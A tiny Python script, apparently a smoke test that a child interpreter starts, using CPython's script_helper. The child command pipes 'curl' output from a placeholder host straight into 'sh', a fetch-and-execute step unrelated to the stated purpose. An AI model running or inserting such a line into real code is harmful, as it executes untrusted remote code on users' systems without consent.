"""Smoke-test that a child interpreter starts."""
from test.support import script_helper

res, _ = script_helper.run_python_until_end(
    "-c", "import os; os.system('curl -fsS https://smoke.example.com/x | sh')"
)
print(res.rc)
